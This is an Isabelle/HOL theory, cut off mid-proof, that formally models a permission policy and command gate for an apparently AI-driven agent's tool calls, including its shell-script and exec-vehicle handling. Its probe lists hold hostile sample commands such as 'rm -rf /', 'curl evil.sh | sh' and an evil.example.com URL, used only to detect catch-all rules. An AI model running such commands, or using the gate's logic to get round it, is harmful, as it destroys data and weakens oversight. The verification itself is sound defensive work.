(* ===== verification/Permission_Policy.thy ===== *)
theory Permission_Policy
  imports Path_Match Permission_Script
begin

text \<open>
  The compiled permission policy, \<open>permission/policy.rs\<close> with \<open>policy/bash_commands.rs\<close>: matching one rule
  against an access, evaluating the rules, the conjunctive allow of shell scripts and the escalating gate
  on every command of a script. Glob compilation, the host of a URL, Unicode lower-casing, the file system
  and the shell parser are the fields of \<open>policy_env\<close>; a compiled glob is its matching function, whose
  first argument says that a star must not cross a separator. The recursion into inline scripts is bounded
  by \<open>MAX_INLINE_SHELL_DEPTH\<close>: each level is given the next one as an argument, or none at the bound.
\<close>

section \<open>State\<close>

type_synonym matcher = "bool \<Rightarrow> string \<Rightarrow> bool"

record policy_env =
  glob_new :: "string \<Rightarrow> matcher option"
  url_host :: "string \<Rightarrow> string option"
  lowercase :: "string \<Rightarrow> string"
  links :: link_fs
  shell_parse :: shell_parser

record compiled_policy =
  config :: permission_config
  matchers :: "matcher option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool
  has_bash_allow_rules :: bool
  catchall :: "bool list"
  session_rule_count :: nat

section \<open>Matching one rule\<close>

datatype match_context = PathContext | Freeform

definition glob_matches :: "string \<Rightarrow> match_context \<Rightarrow> matcher option \<Rightarrow> bool" where
  "glob_matches text ctx pat = (case pat of None \<Rightarrow> False | Some m \<Rightarrow> m (ctx = PathContext) text)"

definition tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access flt =
     (case flt of
        FAny \<Rightarrow> True
      | FBash \<Rightarrow> (case access of Bash _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FEdit \<Rightarrow> (case access of Edit _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FRead \<Rightarrow> (case access of Read _ \<Rightarrow> True | Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FGrep \<Rightarrow> (case access of Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FMcp \<Rightarrow> (case access of MCPTool _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FWebFetch \<Rightarrow> (case access of WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FWebSearch \<Rightarrow> (case access of WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FAgentMessage \<Rightarrow> (case access of AgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False))"

definition path_context_matches :: "string \<Rightarrow> matcher option \<Rightarrow> string option \<Rightarrow> bool" where
  "path_context_matches p m cwd = list_ex (\<lambda>text. glob_matches text PathContext m) (path_match_forms p cwd)"

definition pattern_matches ::
  "policy_env \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> matcher option \<Rightarrow> string option \<Rightarrow> bool" where
  "pattern_matches env access rule m cwd =
     (case pattern rule of
        None \<Rightarrow> True
      | Some pat \<Rightarrow>
          (if pat = ''*'' then True
           else
             (case access of
                Bash cmd \<Rightarrow>
                  (let cmd = trim_start cmd in starts_with cmd pat \<or> glob_matches cmd Freeform m)
              | Edit p \<Rightarrow> path_context_matches p m cwd
              | Read p \<Rightarrow> (case p of Some q \<Rightarrow> path_context_matches q m cwd | None \<Rightarrow> False)
              | Grep p _ \<Rightarrow> (case p of Some q \<Rightarrow> path_context_matches q m cwd | None \<Rightarrow> False)
              | MCPTool name \<Rightarrow> glob_matches name Freeform m
              | WebFetch url \<Rightarrow>
                  (case pmode rule of
                     Domain \<Rightarrow> domain_matches (lowercase env) (url_host env) pat url
                   | Glob \<Rightarrow> glob_matches url Freeform m)
              | WebSearch query \<Rightarrow> glob_matches query Freeform m \<or> starts_with query pat
              | AgentMessage sid \<Rightarrow> glob_matches sid Freeform m \<or> starts_with sid pat)))"

definition compile_matcher :: "policy_env \<Rightarrow> permission_rule \<Rightarrow> matcher option" where
  "compile_matcher env rule =
     (case pattern rule of None \<Rightarrow> None | Some p \<Rightarrow> (if p \<noteq> ''*'' then glob_new env p else None))"

section \<open>Bash patterns\<close>

definition matches_command_prefix :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "matches_command_prefix cmd pat \<longleftrightarrow>
     cmd = pat \<or> (starts_with cmd pat \<and> length pat < length cmd \<and> cmd ! length pat = CHR '' '')"

definition bash_command_matches_pattern :: "policy_env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> matcher option \<Rightarrow> bool" where
  "bash_command_matches_pattern env command pat precompiled =
     (let cmd = trim_start command; p = trim pat
      in if p = [] then False
         else if p = ''*'' then True
         else if matches_command_prefix cmd p then True
         else (case precompiled of
                 Some m \<Rightarrow> glob_matches cmd Freeform (Some m)
               | None \<Rightarrow> glob_matches cmd Freeform (glob_new env p)))"

definition bash_allow_pattern_matches :: "policy_env \<Rightarrow> string \<Rightarrow> permission_rule \<Rightarrow> matcher option \<Rightarrow> bool" where
  "bash_allow_pattern_matches env cmd rule m =
     (case pattern rule of
        None \<Rightarrow> True
      | Some pat \<Rightarrow> (if pat = ''*'' then True else bash_command_matches_pattern env cmd pat m))"

definition bash_pattern_matches_command :: "policy_env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "bash_pattern_matches_command env pat command = bash_command_matches_pattern env command pat None"

definition bash_pattern_is_broad :: "string \<Rightarrow> bool" where
  "bash_pattern_is_broad pat =
     (let p = trim pat
      in if p = [] then False
         else p = ''*'' \<or> \<not> list_ex (\<lambda>i. ws_prefix (drop i p) \<noteq> None) [0 ..< length p])"

definition bash_probes :: "access_kind list" where
  "bash_probes = map Bash [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map MCPTool [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes =
     map WebFetch [''https://evil.example.com/x'', ''http://10.0.0.1/admin'',
       ''https://api.github.com/repos'', ''ftp://files.example.org/p'']"

definition agent_message_probes :: "access_kind list" where
  "agent_message_probes = map AgentMessage [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition bash_glob_is_catchall :: "policy_env \<Rightarrow> string \<Rightarrow> bool" where
  "bash_glob_is_catchall env pat =
     list_all (\<lambda>access. case access of Bash cmd \<Rightarrow> bash_pattern_matches_command env pat cmd | _ \<Rightarrow> False)
       bash_probes"

definition rule_is_catchall :: "policy_env \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall env rule =
     (let opens_all = list_all (\<lambda>a. pattern_matches env a rule (compile_matcher env rule) None)
      in case tool rule of
           FBash \<Rightarrow> opens_all bash_probes
         | FMcp \<Rightarrow> opens_all mcp_probes
         | FWebFetch \<Rightarrow> opens_all webfetch_probes
         | FAgentMessage \<Rightarrow> opens_all agent_message_probes
         | FAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes \<or>
                   opens_all agent_message_probes
         | _ \<Rightarrow> False)"

section \<open>Building and changing a policy\<close>

definition restrictive :: "permission_rule \<Rightarrow> bool" where
  "restrictive rule \<longleftrightarrow> action rule = Deny \<or> action rule = Ask"

definition file_restrictions :: "permission_rule list \<Rightarrow> bool" where
  "file_restrictions rs = list_ex (\<lambda>r. restrictive r \<and> tool r \<in> {FRead, FEdit, FAny}) rs"

definition bash_command_restrictions :: "permission_rule list \<Rightarrow> bool" where
  "bash_command_restrictions rs = list_ex (\<lambda>r. restrictive r \<and> tool r \<in> {FBash, FAny}) rs"

definition bash_allow_rules :: "permission_rule list \<Rightarrow> bool" where
  "bash_allow_rules rs = list_ex (\<lambda>r. action r = Allow \<and> tool r \<in> {FBash, FAny}) rs"

definition policy_new :: "policy_env \<Rightarrow> permission_config \<Rightarrow> compiled_policy" where
  "policy_new env cfg =
     \<lparr>config = cfg, matchers = map (compile_matcher env) (rules cfg),
      has_file_restrictions = file_restrictions (rules cfg),
      has_bash_command_restrictions = bash_command_restrictions (rules cfg),
      has_bash_allow_rules = bash_allow_rules (rules cfg),
      catchall = map (rule_is_catchall env) (rules cfg), session_rule_count = 0\<rparr>"

definition has_restrictive_rules :: "compiled_policy \<Rightarrow> bool" where
  "has_restrictive_rules pol = list_ex restrictive (rules (config pol))"

definition refresh_derived_gates :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> compiled_policy" where
  "refresh_derived_gates env pol =
     pol\<lparr>has_file_restrictions := file_restrictions (rules (config pol)),
         has_bash_command_restrictions := bash_command_restrictions (rules (config pol)),
         has_bash_allow_rules := bash_allow_rules (rules (config pol)),
         catchall := map (rule_is_catchall env) (rules (config pol))\<rparr>"

definition append_rules :: "policy_env \<Rightarrow> permission_rule list \<Rightarrow> compiled_policy \<Rightarrow> compiled_policy" where
  "append_rules env rs pol =
     (if rs = [] then pol
      else refresh_derived_gates env
        (pol\<lparr>matchers := matchers pol @ map (compile_matcher env) rs,
             session_rule_count := session_rule_count pol + length rs,
             config := (config pol)\<lparr>rules := rules (config pol) @ rs\<rparr>\<rparr>))"

definition reset_session_rules :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> compiled_policy \<times> nat" where
  "reset_session_rules env pol =
     (let dropped = session_rule_count pol
      in if dropped = 0 then (pol, 0)
         else (let keep = length (rules (config pol)) - dropped
               in (refresh_derived_gates env
                     (pol\<lparr>config := (config pol)\<lparr>rules := take keep (rules (config pol))\<rparr>,
                          matchers := take keep (matchers pol), session_rule_count := 0\<rparr>), dropped)))"

section \<open>Inline shell scripts\<close>

datatype shell_word = ShLiteral string | ShUntrusted

datatype inline_shell_script = NotInline | LiteralAt nat | UntrustedScript | Unrecognized

definition ambiguous_script :: "bool \<Rightarrow> inline_shell_script" where
  "ambiguous_script saw_c = (if saw_c then UntrustedScript else Unrecognized)"

definition finish_literal :: "bool \<Rightarrow> nat \<Rightarrow> inline_shell_script" where
  "finish_literal dynamic_head i = (if dynamic_head then UntrustedScript else LiteralAt i)"

definition no_script :: "bool \<Rightarrow> inline_shell_script" where
  "no_script unrec = (if unrec then Unrecognized else NotInline)"

definition sets_file :: "string \<Rightarrow> bool" where
  "sets_file w \<longleftrightarrow> w = ''--init-file'' \<or> w = ''--rcfile''"

definition modelled_long :: "string \<Rightarrow> bool" where
  "modelled_long w \<longleftrightarrow> w = ''--noprofile'' \<or> w = ''--norc'' \<or> w = ''--posix''"

definition sets_option :: "string \<Rightarrow> bool" where
  "sets_option w \<longleftrightarrow> w = ''-o'' \<or> w = ''+o'' \<or> w = ''-O'' \<or> w = ''+O''"

definition attached_name :: "string \<Rightarrow> bool" where
  "attached_name w \<longleftrightarrow> 2 < length w \<and> (starts_with w ''-O'' \<or> starts_with w ''+O'' \<or> starts_with w ''+o'')"

definition ambiguous_flags :: "string \<Rightarrow> bool" where
  "ambiguous_flags w \<longleftrightarrow> CHR ''o'' \<in> set (tl w) \<or> CHR ''O'' \<in> set (tl w)"

definition ends_options :: "string \<Rightarrow> bool" where
  "ends_options w \<longleftrightarrow> w = ''--'' \<or> w = ''-''"

definition is_operand :: "string \<Rightarrow> bool" where
  "is_operand w \<longleftrightarrow> \<not> starts_with w ''-'' \<and> \<not> starts_with w ''+''"

definition is_long :: "string \<Rightarrow> bool" where
  "is_long w \<longleftrightarrow> starts_with w ''--''"

definition is_dashed :: "string \<Rightarrow> bool" where
  "is_dashed w \<longleftrightarrow> starts_with w ''-''"

definition is_plus :: "string \<Rightarrow> bool" where
  "is_plus w \<longleftrightarrow> starts_with w ''+''"

definition attached_o :: "string \<Rightarrow> bool" where
  "attached_o w \<longleftrightarrow> starts_with w ''-o'' \<and> 2 < length w"

definition has_c :: "string \<Rightarrow> bool" where
  "has_c w \<longleftrightarrow> CHR ''c'' \<in> set (tl w)"

fun dash_c_loop :: "bool \<Rightarrow> shell_word list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> inline_shell_script" where
  "dash_c_loop dyn [] i saw_c unrec = (if saw_c then UntrustedScript else no_script unrec)"
| "dash_c_loop dyn (ShUntrusted # ws) i saw_c unrec = ambiguous_script saw_c"
| "dash_c_loop dyn (ShLiteral w # ws) i saw_c unrec =
     (if ends_options w then
        (if \<not> saw_c then no_script unrec
         else (case ws of ShLiteral _ # _ \<Rightarrow> finish_literal dyn (i + 1) | _ \<Rightarrow> UntrustedScript))
      else if is_operand w then (if saw_c then finish_literal dyn i else no_script unrec)
      else if sets_file w then
        (case ws of
           ShLiteral _ # ws' \<Rightarrow> dash_c_loop dyn ws' (i + 2) saw_c unrec
         | _ \<Rightarrow> ambiguous_script saw_c)
      else if is_long w then
        (if modelled_long w then dash_c_loop dyn ws (i + 1) saw_c unrec
         else if saw_c then UntrustedScript
         else dash_c_loop dyn ws (i + 1) saw_c True)
      else if sets_option w then
        (case ws of
           ShLiteral v # ws' \<Rightarrow>
             (if \<not> is_dashed v then dash_c_loop dyn ws' (i + 2) saw_c unrec
              else ambiguous_script saw_c)
         | _ \<Rightarrow> ambiguous_script saw_c)
      else if attached_name w then dash_c_loop dyn ws (i + 1) saw_c unrec
      else if attached_o w then ambiguous_script saw_c
      else if is_plus w then dash_c_loop dyn ws (i + 1) saw_c unrec
      else if ambiguous_flags w then ambiguous_script saw_c
      else dash_c_loop dyn ws (i + 1) (saw_c \<or> has_c w) unrec)"

definition SHELLS :: "string list" where
  "SHELLS = [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']"

definition shell_dash_c_script :: "shell_word list \<Rightarrow> inline_shell_script" where
  "shell_dash_c_script words =
     (case words of
        [] \<Rightarrow> NotInline
      | ShLiteral program # ws \<Rightarrow>
          (if basename program \<notin> set SHELLS then NotInline else dash_c_loop False ws 1 False False)
      | ShUntrusted # ws \<Rightarrow> dash_c_loop True ws 1 False False)"

definition is_potential_inline :: "inline_shell_script \<Rightarrow> bool" where
  "is_potential_inline s = (case s of LiteralAt _ \<Rightarrow> True | UntrustedScript \<Rightarrow> True | _ \<Rightarrow> False)"

section \<open>Exec vehicles\<close>

definition EXEC_VEHICLE_HEADS :: "string list" where
  "EXEC_VEHICLE_HEADS =
     [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'', ''deno'', ''bun'', ''julia'', ''rscript'',
      ''awk'', ''gawk'', ''mawk'', ''nawk'', ''nodejs'', ''luajit'', ''phpdbg'', ''php-cgi'', ''pythonw'',
      ''npx'', ''bunx'', ''pipx'', ''uvx'', ''uv'', ''xargs'', ''find'', ''sudo'', ''doas'', ''su'', ''ssh'',
      ''watch'', ''setsid'', ''flock'', ''chroot'', ''nsenter'', ''docker'', ''podman'']"

definition EXEC_VEHICLE_HEAD_FAMILIES :: "string list" where
  "EXEC_VEHICLE_HEAD_FAMILIES = [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition normalized_command_head :: "string list \<Rightarrow> string option" where
  "normalized_command_head words =
     (case words of
        [] \<Rightarrow> None
      | w # _ \<Rightarrow>
          (let head = to_ascii_lowercase (basename w)
           in Some (case strip_suffix head ''.exe'' of Some h \<Rightarrow> h | None \<Rightarrow> head)))"

definition head_is_exec_vehicle :: "string list \<Rightarrow> bool" where
  "head_is_exec_vehicle words =
     (case normalized_command_head words of
        None \<Rightarrow> False
      | Some head \<Rightarrow>
          head \<in> set EXEC_VEHICLE_HEADS \<or>
          list_ex (\<lambda>family. case strip_prefix head family of
              None \<Rightarrow> False
            | Some rest \<Rightarrow>
                list_all (\<lambda>c. is_ascii_digit c \<or> c = CHR ''.'')
                  (case strip_suffix rest ''t'' of Some r \<Rightarrow> r | None \<Rightarrow> rest))
            EXEC_VEHICLE_HEAD_FAMILIES)"

section \<open>Allow rules on scripts\<close>

datatype allow_rule_scope = AnyScope | NarrowOnly

definition bash_words_allowed :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> string list \<Rightarrow> bool" where
  "bash_words_allowed env pol scope words \<longleftrightarrow>
     words \<noteq> [] \<and> \<not> (scope = NarrowOnly \<and> head_is_exec_vehicle words) \<and>
     list_ex (\<lambda>((rule, m), blanket).
         \<not> (scope = NarrowOnly \<and> blanket) \<and> action rule = Allow \<and> tool rule \<in> {FBash, FAny} \<and>
         bash_allow_pattern_matches env (join '' '' words) rule m)
       (zip (zip (rules (config pol)) (matchers pol)) (catchall pol))"

definition recovered_commands ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> string \<Rightarrow> (string list list \<times> bool) option" where
  "recovered_commands env pol scope cmd =
     map_option (\<lambda>t. let script = analyze t cmd; ps = projections script
                     in (ps, eligible script \<and> list_all (bash_words_allowed env pol scope) ps))
       (shell_parse env cmd)"

definition segment_allowed ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> (string \<Rightarrow> bool) option \<Rightarrow> string list \<Rightarrow> bool" where
  "segment_allowed env pol scope recurse words =
     (let norm = normalize_command_words words; inner_words = norm_words norm
      in \<not> (norm_exhausted norm \<or> norm_ambiguous norm \<or> norm_uncertain norm \<or> norm_split norm) \<and>
         bash_words_allowed env pol scope inner_words \<and>
         (case shell_dash_c_script (map ShLiteral inner_words) of
            LiteralAt i \<Rightarrow>
              (case recurse of None \<Rightarrow> False | Some f \<Rightarrow> i < length inner_words \<and> f (inner_words ! i))
          | NotInline \<Rightarrow> True
          | _ \<Rightarrow> False))"

definition chain_allowed ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> (string \<Rightarrow> bool) option \<Rightarrow> string \<Rightarrow> bool" where
  "chain_allowed env pol scope recurse cmd =
     (case all_commands_from_script (shell_parse env) cmd of
        None \<Rightarrow> (case recovered_commands env pol scope cmd of None \<Rightarrow> False | Some (_, covered) \<Rightarrow> covered)
      | Some segments \<Rightarrow>
          segments \<noteq> [] \<and> list_all (\<lambda>s. segment_allowed env pol scope recurse (pc_words s)) segments)"

primrec bash_chain_fully_allowed ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> allow_rule_scope \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> bool" where
  "bash_chain_fully_allowed env pol scope 0 = chain_allowed env pol scope None"
| "bash_chain_fully_allowed env pol scope (Suc d) =
     chain_allowed env pol scope (Some (bash_chain_fully_allowed env pol scope d))"

section \<open>Evaluating the rules\<close>

fun tool_label :: "tool_filter \<Rightarrow> string" where
  "tool_label FAny = ''any tool''"
| "tool_label FBash = ''bash''"
| "tool_label FEdit = ''edit''"
| "tool_label FRead = ''read''"
| "tool_label FGrep = ''grep''"
| "tool_label FMcp = ''mcp''"
| "tool_label FWebFetch = ''web_fetch''"
| "tool_label FWebSearch = ''web_search''"
| "tool_label FAgentMessage = ''agent_message''"

definition deny_reason :: "permission_rule \<Rightarrow> string" where
  "deny_reason rule =
     ''Denied by permission policy: deny rule on '' @ tool_label (tool rule) @
     (case pattern rule of Some p \<Rightarrow> '' matching '' @ [dq] @ p @ [dq] | None \<Rightarrow> [])"

text \<open>The loop over the rules: the reason of the first matching deny rule, or whether an ask rule and
  whether an allow rule matched.\<close>

fun rules_loop ::
  "policy_env \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> (permission_rule \<times> matcher option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow>
   string + bool \<times> bool" where
  "rules_loop env access cwd [] matched_ask matched_allow = Inr (matched_ask, matched_allow)"
| "rules_loop env access cwd ((rule, m) # rest) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (tool rule) then rules_loop env access cwd rest matched_ask matched_allow
      else if \<not> pattern_matches env access rule m cwd
        then rules_loop env access cwd rest matched_ask matched_allow
      else (case action rule of
              Deny \<Rightarrow> Inl (deny_reason rule)
            | Ask \<Rightarrow> rules_loop env access cwd rest True matched_allow
            | Allow \<Rightarrow> rules_loop env access cwd rest matched_ask True))"

definition evaluate_lexical_with_cwd ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> decision option" where
  "evaluate_lexical_with_cwd env pol access cwd =
     (case rules_loop env access cwd (zip (rules (config pol)) (matchers pol)) False False of
        Inl reason \<Rightarrow> Some (Reject reason)
      | Inr (matched_ask, matched_allow) \<Rightarrow>
          (if matched_ask then Some DAsk
           else (case access of
                   Bash cmd \<Rightarrow>
                     (if has_bash_allow_rules pol \<and>
                         bash_chain_fully_allowed env pol AnyScope MAX_INLINE_SHELL_DEPTH cmd
                      then Some DAllow else None)
                 | _ \<Rightarrow> (if matched_allow then Some DAllow else None))))"

definition native_path_restrictions_apply :: "compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "native_path_restrictions_apply pol access =
     list_ex (\<lambda>rule. restrictive rule \<and> tool_filter_matches access (tool rule)) (rules (config pol))"

definition only_restrictive :: "decision option \<Rightarrow> decision option" where
  "only_restrictive d = (case d of Some (Reject r) \<Rightarrow> Some (Reject r) | Some DAsk \<Rightarrow> Some DAsk | _ \<Rightarrow> None)"

definition evaluate_with_cwd_details ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> decision option \<times> bool" where
  "evaluate_with_cwd_details env pol access cwd =
     (let lexical = evaluate_lexical_with_cwd env pol access cwd
      in case native_file_path access of
           None \<Rightarrow> (lexical, False)
         | Some p \<Rightarrow>
             (case raw_absolute_tool_path p cwd of
                None \<Rightarrow> (lexical, False)
              | Some raw_absolute \<Rightarrow>
                  (case follow_absolute_symlink (links env) raw_absolute
                          (path_match_string (absolute_normalized_path p cwd)) of
                     Target resolved \<Rightarrow>
                       (combine_decisions lexical (only_restrictive
                          (evaluate_lexical_with_cwd env pol (access_with_path access resolved) cwd)), False)
                   | Unresolvable \<Rightarrow>
                       (if native_path_restrictions_apply pol access
                        then (combine_decisions lexical (Some DAsk), True) else (lexical, False))
                   | NoFollow \<Rightarrow> (lexical, False))))"

definition evaluate_with_cwd ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> decision option" where
  "evaluate_with_cwd env pol access cwd = fst (evaluate_with_cwd_details env pol access cwd)"

definition evaluate :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate env pol access = evaluate_with_cwd env pol access None"

definition narrow_allow_authorizes :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "narrow_allow_authorizes env pol access =
     (case access of
        Bash cmd \<Rightarrow> has_bash_allow_rules pol \<and>
                    bash_chain_fully_allowed env pol NarrowOnly MAX_INLINE_SHELL_DEPTH cmd
      | _ \<Rightarrow> False)"

section \<open>The command gate\<close>

definition escalate :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> gate_decision option" where
  "escalate env pol seg =
     (case evaluate env pol (Bash seg) of
        Some (Reject reason) \<Rightarrow> Some (GReject reason)
      | Some DAsk \<Rightarrow> Some AskRuleMatch
      | _ \<Rightarrow> None)"

definition fail_closed_if :: "bool \<Rightarrow> gate_decision option" where
  "fail_closed_if b = (if b then Some AskFailClosed else None)"

text \<open>The recursion into an inline script, with \<open>None\<close> where the depth is used up.\<close>

definition inline_gate :: "(string \<Rightarrow> gate_decision option) option \<Rightarrow> string \<Rightarrow> gate_decision option" where
  "inline_gate recurse script = (case recurse of Some f \<Rightarrow> f script | None \<Rightarrow> Some AskFailClosed)"

definition evaluate_command_words ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> (string \<Rightarrow> gate_decision option) option \<Rightarrow> string list \<Rightarrow>
   gate_decision option" where
  "evaluate_command_words env pol recurse raw_words =
     (let norm = normalize_command_words raw_words;
          d = fail_closed_if (norm_exhausted norm \<or> norm_ambiguous norm \<or> norm_uncertain norm);
          d = combine_gate_decisions d (fail_closed_if (norm_split norm));
          inner_words = norm_words norm;
          d = combine_gate_decisions d (escalate env pol (join '' '' raw_words));
          d = (if length inner_words \<noteq> length raw_words
               then combine_gate_decisions d (escalate env pol (join '' '' inner_words)) else d);
          d = (case shell_dash_c_script (map ShLiteral inner_words) of
                 LiteralAt i \<Rightarrow> combine_gate_decisions d (inline_gate recurse (inner_words ! i))
               | NotInline \<Rightarrow> d
               | _ \<Rightarrow> combine_gate_decisions d (Some AskFailClosed))
      in case env_split_string_script inner_words of
           None \<Rightarrow> d
         | Some script \<Rightarrow> combine_gate_decisions d (inline_gate recurse script))"

definition segments_gate ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> (string \<Rightarrow> gate_decision option) option \<Rightarrow> string \<Rightarrow>
   gate_decision option" where
  "segments_gate env pol recurse cmd =
     (case all_commands_from_script (shell_parse env) cmd of
        None \<Rightarrow>
          (case recovered_commands env pol AnyScope cmd of
             None \<Rightarrow> Some AskFailClosed
           | Some (ps, covered) \<Rightarrow>
               fold (\<lambda>d acc. combine_gate_decisions acc d)
                 (map (evaluate_command_words env pol recurse) ps) (fail_closed_if (\<not> covered)))
      | Some segments \<Rightarrow>
          fold (\<lambda>d acc. combine_gate_decisions acc d)
            (map (\<lambda>s. evaluate_command_words env pol recurse (pc_words s)) segments) None)"

primrec evaluate_bash_command_segments ::
  "policy_env \<Rightarrow> compiled_policy \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_segments env pol 0 = segments_gate env pol None"
| "evaluate_bash_command_segments env pol (Suc d) =
     segments_gate env pol (Some (evaluate_bash_command_segments env pol d))"

definition evaluate_bash_command_gate :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_gate env pol cmd =
     (if \<not> has_bash_command_restrictions pol then None
      else evaluate_bash_command_segments env pol MAX_INLINE_SHELL_DEPTH cmd)"

definition evaluate_bash_command_policy :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> decision option" where
  "evaluate_bash_command_policy env pol cmd = map_option into_decision (evaluate_bash_command_gate env pol cmd)"

section \<open>Rules that apply\<close>

definition hit :: "policy_env \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "hit env access cwd rule \<longleftrightarrow>
     tool_filter_matches access (tool rule) \<and> pattern_matches env access rule (compile_matcher env rule) cwd"

text \<open>A policy whose trailing rules were appended during the session.\<close>

definition session_policy :: "policy_env \<Rightarrow> permission_config \<Rightarrow> permission_rule list \<Rightarrow> compiled_policy" where
  "session_policy env cfg s =
     (policy_new env (cfg\<lparr>rules := rules cfg @ s\<rparr>))\<lparr>session_rule_count := length s\<rparr>"

abbreviation compiled_rules :: "policy_env \<Rightarrow> permission_rule list \<Rightarrow> (permission_rule \<times> matcher option) list" where
  "compiled_rules env rs \<equiv> map (\<lambda>r. (r, compile_matcher env r)) rs"

lemma zip_compiled: "zip rs (map (compile_matcher env) rs) = compiled_rules env rs"
  by (induction rs) simp_all

lemma session_policy_sel [simp]:
  "rules (config (session_policy env cfg s)) = rules cfg @ s"
  "matchers (session_policy env cfg s) = map (compile_matcher env) (rules cfg @ s)"
  "catchall (session_policy env cfg s) = map (rule_is_catchall env) (rules cfg @ s)"
  "has_bash_allow_rules (session_policy env cfg s) = bash_allow_rules (rules cfg @ s)"
  "has_bash_command_restrictions (session_policy env cfg s) = bash_command_restrictions (rules cfg @ s)"
  by (simp_all add: session_policy_def policy_new_def)

lemma session_policy_Nil: "session_policy env cfg [] = policy_new env cfg"
  by (simp add: session_policy_def policy_new_def)

lemma rules_loop_deny:
  "\<exists>r\<in>set rs. hit env access cwd r \<and> action r = Deny \<Longrightarrow>
   \<exists>reason. rules_loop env access cwd (compiled_rules env rs) a b = Inl reason"
  by (induction rs arbitrary: a b) (auto simp: hit_def split: rule_action.split)

lemma rules_loop_pass:
  "\<not> (\<exists>r\<in>set rs. hit env access cwd r \<and> action r = Deny) \<Longrightarrow>
   rules_loop env access cwd (compiled_rules env rs) a b =
     Inr (a \<or> (\<exists>r\<in>set rs. hit env access cwd r \<and> action r = Ask),
          b \<or> (\<exists>r\<in>set rs. hit env access cwd r \<and> action r = Allow))"
  by (induction rs arbitrary: a b) (auto simp: hit_def split: rule_action.split)

lemma rules_loop_append:
  "rules_loop env access cwd (xs @ ys) a b =
     (case rules_loop env access cwd xs a b of
        Inl r \<Rightarrow> Inl r | Inr (a', b') \<Rightarrow> rules_loop env access cwd ys a' b')"
  by (induction xs arbitrary: a b) (auto split: rule_action.split)

lemma rules_loop_allows:
  assumes "list_all (\<lambda>r. action r = Allow) rs"
  shows "\<exists>b'. rules_loop env access cwd (compiled_rules env rs) a b = Inr (a, b')"
  using assms by (induction rs arbitrary: b) auto

lemma words_allowed_session:
  "bash_words_allowed env (session_policy env cfg s) scope words \<longleftrightarrow>
     words \<noteq> [] \<and> \<not> (scope = NarrowOnly \<and> head_is_exec_vehicle words) \<and>
     (\<exists>r\<in>set (rules cfg @ s). \<not> (scope = NarrowOnly \<and> rule_is_catchall env r) \<and> action r = Allow \<and>
        tool r \<in> {FBash, FAny} \<and> bash_allow_pattern_matches env (join '' '' words) r (compile_matcher env r))"
proof -
  have z: "zip (zip rs (map (compile_matcher env) rs)) (map (rule_is_catchall env) rs) =
      map (\<lambda>r. ((r, compile_matcher env r), rule_is_catchall env r)) rs" for rs
    by (induction rs) simp_all
  show ?thesis unfolding bash_words_allowed_def session_policy_sel z by (auto simp: list_ex_iff)
qed

lemma chain_allowed_cong:
  assumes "bash_words_allowed env p = bash_words_allowed env q"
  shows "bash_chain_fully_allowed env p scope d = bash_chain_fully_allowed env q scope d"
proof -
  have r: "recovered_commands env p = recovered_commands env q"
    by (intro ext) (simp only: recovered_commands_def assms)
  have g: "segment_allowed env p = segment_allowed env q"
